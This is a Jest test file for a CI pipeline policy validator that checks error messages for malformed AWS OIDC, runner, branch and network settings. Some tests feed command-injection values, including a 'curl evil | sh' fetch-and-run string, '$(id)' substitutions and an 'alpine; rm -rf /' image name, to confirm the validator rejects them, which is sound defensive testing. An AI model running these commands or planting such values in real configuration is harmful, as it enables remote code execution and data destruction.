import { readFileSync } from 'fs';
import { parse } from 'yaml';
import { validatePolicy } from '../../src/policy/load';
import { parsePolicyText } from '../../src/policy/text';
import { REFERENCE_POLICY_PATH, referencePolicyInput } from '../support/requests';

const problemsOf = (adjust: (p: any) => void) => {
  const input: any = referencePolicyInput();
  adjust(input);
  const result = validatePolicy(input);
  return result.ok ? [] : result.problems.map((p) => `${p.path}: ${p.message}`);
};

describe('policy format v1', () => {
  it('loads the reference policy unchanged from YAML', () => {
    const result = parsePolicyText(readFileSync(REFERENCE_POLICY_PATH, 'utf8'));
    expect(result.ok).toBe(true);
  });

  it('loads the equivalent JSON to the same policy', () => {
    const text = readFileSync(REFERENCE_POLICY_PATH, 'utf8');
    const fromYaml = parsePolicyText(text);
    const fromJson = parsePolicyText(JSON.stringify(parse(text)));
    expect(fromJson).toEqual(fromYaml);
  });

  it.each([
    [
      (p: any) => {
        p.environments[0].oidc.roleArn = 'arn:aws:iam::1111:role/x';
      },
      'environments[0].oidc.roleArn: not an IAM role ARN',
    ],
    [
      (p: any) => {
        p.environments[0].oidc.region = 'europe';
      },
      'environments[0].oidc.region: not an AWS region such as eu-west-1',
    ],
    [
      (p: any) => {
        p.environments[0].runner.labels = ['Prod'];
      },
      'environments[0].runner.labels[0]: not a runner label (lowercase letters, digits and dots only)',
    ],
    [
      (p: any) => {
        p.environments[0].branches = ['{main'];
      },
      'environments[0].branches[0]: not a Bitbucket glob: unclosed "{" in "{main"',
    ],
    [
      (p: any) => {
        p.deny.scripts = ['curl['];
      },
      'deny.scripts[0]: not a valid regular expression',
    ],
    [
      (p: any) => {
        p.environments[0].runner.network.cidrs = ['203.0.113.5/28'];
      },
      'environments[0].runner.network.cidrs[0]: host bits are set; did you mean 203.0.113.0/28?',
    ],
    [
      (p: any) => {
        p.environments[0].runner.network.cidrs = ['300.0.0.0/8'];
      },
      'environments[0].runner.network.cidrs[0]: not a CIDR block',
    ],
    [
      (p: any) => {
        p.environments[0].manualTriger = true;
      },
      'environments[0].manualTriger: unknown field',
    ],
    [
      (p: any) => {
        p.rules = { 'deny-imag': 'warn' };
      },
      'rules.deny-imag: unknown rule id',
    ],
    [
      (p: any) => {
        p.mode = 'block';
      },
      'mode: must be one of enforce, warn, off',
    ],
    [
      (p: any) => {
        p.version = 2;
      },
      'version: must be 1',
    ],
    [
      (p: any) => {
        p.environments[1].name = 'prod';
      },
      'environments[1].name: duplicate environment name "prod"',
    ],
    [
      (p: any) => {
        p.environments[1].default = false;
      },
      'environments: exactly one environment must set `default: true`',
    ],
    [
      (p: any) => {
        p.environments[0].default = true;
      },
      'environments[1].default: only one environment may be the default',
    ],
    [
      (p: any) => {
        delete p.environments[0].name;
      },
      'environments[0].name: required',
    ],
    [
      (p: any) => {
        p.environments[1].runner.labels = ['self.hosted', 'linux'];
      },
      'environments[1].runner.labels: every label of "dev" is also a label of "prod"',
    ],
    [
      (p: any) => {
        p.environments[1].runner.extraLabels = ['a1', 'a2', 'a3', 'a4', 'a5', 'a6', 'a7', 'a8'];
      },
      'environments[1].runner.extraLabels: labels and extraLabels together name 11 labels; a step can carry at most 10',
    ],
  ])('names the field of an invalid policy (%#)', (adjust, expected) => {
    expect(problemsOf(adjust).join('\n')).toContain(expected);
  });

  it.each([
    ["eu-west-1' ; curl evil | sh ; '", 'oidc.region'],
    ['arn:aws:iam::111111111111:role/x$(id)', 'oidc.roleArn'],
    ['arn:aws:iam::111111111111:role/x`id`', 'oidc.roleArn'],
  ])('refuses a value that could break out of the injected shell line: %j', (value, field) => {
    const problems = problemsOf((p) => {
      if (field === 'oidc.region') p.environments[0].oidc.region = value;
      else p.environments[0].oidc.roleArn = value;
    });
    expect(problems.join('\n')).toContain(`environments[0].${field}`);
  });

  it('refuses a scan image with shell metacharacters', () => {
    expect(
      problemsOf((p) => {
        p.securityScan.steps[0].image = 'alpine; rm -rf /';
      }).join(),
    ).toContain('securityScan.steps[0].image');
  });

  it('points at the line of each problem in YAML', () => {
    const text = readFileSync(REFERENCE_POLICY_PATH, 'utf8').replace('region: eu-west-1', 'region: nowhere');
    const result = parsePolicyText(text);
    expect(result.ok).toBe(false);
    const line = text.split('\n').findIndex((l) => l.includes('region: nowhere')) + 1;
    expect(!result.ok && result.problems[0]).toEqual(
      expect.objectContaining({ path: 'environments[0].oidc.region', line }),
    );
  });

  it('reports bad YAML with its line', () => {
    const result = parsePolicyText('version: 1\nenvironments: [\n');
    expect(!result.ok && result.problems[0].message).toMatch(/not valid YAML or JSON/);
    expect(!result.ok && result.problems[0].line).toBeGreaterThan(0);
  });
});
